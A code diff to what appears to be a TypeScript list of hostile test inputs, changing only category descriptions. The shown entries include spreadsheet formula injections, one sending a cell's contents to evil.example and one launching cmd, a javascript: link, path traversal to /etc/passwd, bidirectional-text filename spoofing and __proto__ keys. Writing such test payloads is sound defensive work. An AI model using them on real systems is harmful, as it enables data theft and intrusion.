@@ -70,7 +70,7 @@ export const PAYLOADS: readonly Payloads[] = [
   },
   {
     name: 'hostile-direction',
-    about: 'bidirectional controls and text that runs the other way',
+    about: 'bidirectional controls and right-to-left text',
     texts: [
       '\u202egnp.exe',
       'user\u202e \u2066// admin only\u2069 \u2066begin',
@@ -87,7 +87,7 @@ export const PAYLOADS: readonly Payloads[] = [
   },
   {
     name: 'hostile-invisible',
-    about: 'text that cannot be seen, and text that is none',
+    about: 'invisible text, and characters that aren’t text',
     texts: [
       '\u200b\u200c\u200d\u2060\ufeff',
       'pass\u200bword ad\u00admin r\u034foot',
@@ -126,7 +126,7 @@ export const PAYLOADS: readonly Payloads[] = [
   },
   {
     name: 'hostile-formulas',
-    about: 'texts that a spreadsheet would compute',
+    about: 'text that a spreadsheet would run as a formula',
     texts: [
       '=HYPERLINK("https://evil.example/?t="&A1,"open")',
       "=cmd|' /C calc'!A0",
@@ -149,7 +149,7 @@ export const PAYLOADS: readonly Payloads[] = [
   },
   {
     name: 'hostile-links',
-    about: 'links that run, hide, sign in or lead elsewhere',
+    about: 'links that run code, hide their target, carry credentials or lead elsewhere',
     texts: [
       'https://evil.example/?q=harbor',
       'javascript:alert(1)',
@@ -183,7 +183,7 @@ export const PAYLOADS: readonly Payloads[] = [
   },
   {
     name: 'hostile-paths',
-    about: 'paths that climb, and names that mean something elsewhere',
+    about: 'paths that lead out of their folder, and names with a special meaning elsewhere',
     texts: ['../../../../etc/passwd', '..\\..\\windows\\system32', '/dev/null', 'CON', '.', '..'],
     paths: [
       '../../../../etc/passwd',
@@ -205,7 +205,7 @@ export const PAYLOADS: readonly Payloads[] = [
   },
   {
     name: 'hostile-names',
-    about: 'names that objects have of themselves',
+    about: 'names that JavaScript itself uses',
     texts: [
       '__proto__',
       'constructor',
